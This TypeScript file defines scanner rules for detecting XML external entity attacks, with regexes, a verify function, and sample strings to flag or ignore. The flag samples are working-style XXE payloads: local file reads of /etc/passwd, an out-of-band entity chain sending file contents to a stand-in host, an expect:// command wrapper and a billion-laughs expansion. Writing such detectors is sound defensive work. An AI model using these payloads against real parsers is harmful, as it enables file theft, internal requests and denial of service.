import { rx } from '../rules/pattern-rule.ts'
import type { PayloadRule } from './categories.ts'

const shared = { category: 'xxe', cwe: 'CWE-611' } as const
const WRAPPER = String.raw`(?:file|https?|ftp|php|expect|gopher|jar|netdoc|data|dict|phar|zip):`

export const xxeRules: readonly PayloadRule[] = [
  {
    ...shared,
    id: 'xxe-external-entity',
    severity: 'high',
    title: 'XML entity that loads a file or an address',
    anchors: ['<!entity', '&lt;!entity', '%3c!entity', '\\u003c!entity'],
    before: 4,
    after: 240,
    find: rx`(?:<|&lt;|%3c|\\u003c)!ENTITY\s{1,12}(?:%\s{0,12}|&#x25;\s{0,12}|&percnt;\s{0,4})?[\w.:-]{1,60}\s{1,12}(?:SYSTEM|PUBLIC\s{1,12}["'][^"'\n]{0,80}["'])\s{1,12}(?:["']|&quot;|&apos;|\\["'])[^"'\n]{0,160}`,
    verify(match) {
      const parameter = /ENTITY\s{1,12}(?:%|&#x25;|&percnt;)/i.test(match[0])
      const address = /(?:SYSTEM|["'])\s{1,12}\\?(?:["']|&quot;|&apos;)([^"']{0,160})$/i.exec(match[0])?.[1] ?? ''
      if (
        /^(?:file|php|expect|gopher|jar|netdoc|data|dict|phar|zip|ftp):|^\/(?:etc|proc|root|dev)\/|^[a-z]:[\\/]/i.test(
          address,
        )
      )
        return 1
      // Documentation splits its chapters into local entities and references character sets of the standards body.
      if (/w3\.org|oasis-open\.org|docbook|\.dtd$|\.ent$|isolat|\.mod$/i.test(address))
        return parameter && !/w3\.org|oasis|docbook|^[\w./-]*$/i.test(address) ? 1 : 0
      if (/^https?:|^\/\//i.test(address)) return 1
      return 0
    },
    flags: [
      '<!ENTITY x SYSTEM "file:///etc/hosts">',
      "<!ENTITY % d SYSTEM 'http://h.example/a.dtd'>",
      '<!entity a public "p" "http://h.example/x">',
    ],
    ignores: [
      '<!ENTITY chap1 SYSTEM "chapter1.xml">',
      '<!ENTITY copy "&#169;">',
      '<!ENTITY % iso SYSTEM "http://www.w3.org/2003/entities/iso.ent">',
    ],
  },
  {
    ...shared,
    id: 'xxe-parameter-chain',
    severity: 'high',
    title: 'Parameter entities that build another entity',
    anchors: ['<!entity', '&#x25;', '&#37;'],
    before: 8,
    after: 260,
    find: rx`<!ENTITY\s{1,12}%\s{1,12}[\w.:-]{1,60}\s{1,12}["']\s{0,6}<!ENTITY\s{1,8}(?:&#x25;|&#37;|%)?\s{0,6}[\w.:-]{1,60}\s{1,8}(?:SYSTEM|["'])[^\n]{0,80}%[\w.-]{1,30};`,
    flags: [
      '<!ENTITY % all "<!ENTITY &#x25; send SYSTEM \'http://h.example/?%file;\'>">',
      '<!ENTITY % e "<!ENTITY b \'%a;\'>">',
    ],
    ignores: ['<!ENTITY % inline "a | b | %font;">', '<!ENTITY name "value">'],
  },
  {
    ...shared,
    id: 'xxe-entity-expansion',
    cwe: 'CWE-776',
    severity: 'high',
    title: 'Entities that multiply each other',
    anchors: ['<!entity'],
    before: 4,
    after: 280,
    find: rx`<!ENTITY\s{1,12}%?\s{0,6}[\w.:-]{1,40}\s{1,12}["'](?:[^"'\n&]{0,12}&[\w.:-]{1,40};){4,40}[^"'\n]{0,12}["']`,
    flags: ['<!ENTITY b "&a;&a;&a;&a;&a;">', "<!ENTITY lol9 '&lol8;&lol8;&lol8;&lol8;'>"],
    ignores: ['<!ENTITY full "&first; &last;">', '<!ENTITY a "one two three">'],
  },
  {
    ...shared,
    id: 'xxe-inclusion',
    severity: 'high',
    title: 'XML inclusion, style sheet or image that reads a file',
    anchors: [
      'xi:include',
      'xinclude',
      'document(',
      'unparsed-text',
      'php:function',
      'xlink:href',
      'xml-stylesheet',
      'schemalocation',
      'xsl:include',
      'xsl:import',
      '<!doctype',
    ],
    before: 60,
    after: 240,
    find: rx`(?:<xi:include\s[^>]{0,120}href\s{0,3}=\s{0,3}["'](?:(?:file|php|expect|gopher|ftp):|\/(?:etc|proc|root)|https?:\/\/(?:127|10|169|192\.168|localhost))|(?:document|unparsed-text)\(\s{0,3}["'](?:file:|\/etc\/|https?:\/\/(?:127|169|10\.|localhost))|select\s{0,3}=\s{0,3}["']php:function\(|<image[^>]{0,80}xlink:href\s{0,3}=\s{0,3}["'](?:file|expect|php|text):|<\?xml-stylesheet[^>]{0,60}href\s{0,3}=\s{0,3}["'](?:file|php|expect):|<xsl:(?:include|import)\s[^>]{0,40}href\s{0,3}=\s{0,3}["'](?:file|${WRAPPER}\/\/(?:127|10\.|169))|<!DOCTYPE\s{1,8}[\w:.-]{1,40}\s{1,8}SYSTEM\s{1,8}["'](?:file|php|expect|gopher|ftp|jar|netdoc):|<!DOCTYPE\s{1,8}[\w:.-]{1,40}\s{1,8}SYSTEM\s{1,8}["']https?:\/\/(?:\d{1,3}\.|localhost|\[))`,
    flags: [
      '<xi:include parse="text" href="file:///etc/passwd"/>',
      '<image xlink:href="expect://id"/>',
      '<!DOCTYPE r SYSTEM "http://10.0.0.3/x.dtd">',
      "document('file:///etc/passwd')",
    ],
    ignores: [
      '<xi:include href="chapter2.xml"/>',
      '<use xlink:href="#icon"/>',
      '<!DOCTYPE html SYSTEM "about:legacy-compat">',
      "document('lookup.xml')",
    ],
  },
]
